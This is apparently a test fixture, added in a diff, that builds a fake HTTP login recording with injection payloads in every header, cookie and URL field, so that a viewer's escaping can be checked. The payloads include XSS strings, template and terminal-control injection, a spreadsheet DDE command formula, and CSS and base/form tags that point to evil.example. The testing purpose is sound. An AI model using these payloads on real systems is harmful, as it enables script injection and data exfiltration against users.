@@ -1,0 +1,48 @@
+"""A recording whose every string is an attack: each calls ``marker`` if it ever runs."""
+
+ATTACKS = (
+    "<script>marker(1)</script>",
+    "<img src=x onerror=marker(2)>",
+    "</script><script>marker(3)</script>",
+    "<svg onload=marker(4)>",
+    "javascript:marker(5)",
+    "{{marker(6)}}{%raw%}",
+    '"><iframe srcdoc=<script>parent.marker(7)</script>>',
+    "\u202emarker(8)\u202c\x1b[31m",
+    "=cmd|' /C marker'!A0",
+    "<style>@import url(http://evil.example/x)</style>",
+    "<base href=http://evil.example/><form action=http://evil.example/>",
+)
+
+
+def hostile_story() -> str:
+    """A failing bearer login with attacks in every place a stranger can fill."""
+    lines = ["* page: https://app.example.com/<script>marker(0)</script>"]
+    lines += [
+        "> POST https://api.example.com/login",
+        "< 200",
+        "<",
+        '< {"access_token": "abc<script>marker(9)</script>"}',
+    ]
+    for attack in ATTACKS:
+        clean = attack.replace(" ", "%20").replace("\x1b", "")
+        lines += [
+            f"> GET https://api.example.com/{clean}?{clean}={clean}#x",
+            f"> X-{clean.replace(':', '')}: {attack}",
+            f"> Authorization: {attack}",
+            f"> Cookie: {clean.replace(';', '')}={clean}; sid={attack}",
+            f"> Origin: {clean}",
+            f"* error: {attack}",
+            f"* type: {attack}",
+            "< 401",
+            f"< Set-Cookie: {clean}={clean}; Domain={clean}; Path=/{clean}",
+            f'< WWW-Authenticate: Bearer error="{clean}", {clean}',
+            f"< Server: {attack}",
+            f"< Location: {clean}",
+            f"< Access-Control-Allow-Origin: {attack}",
+            f"< Access-Control-Allow-Headers: {attack}",
+            f"< front-token: {attack}",
+            "<",
+            f"< {attack} No authorization token was found",
+        ]
+    return "\n".join(line.replace("\n", " ") for line in lines)
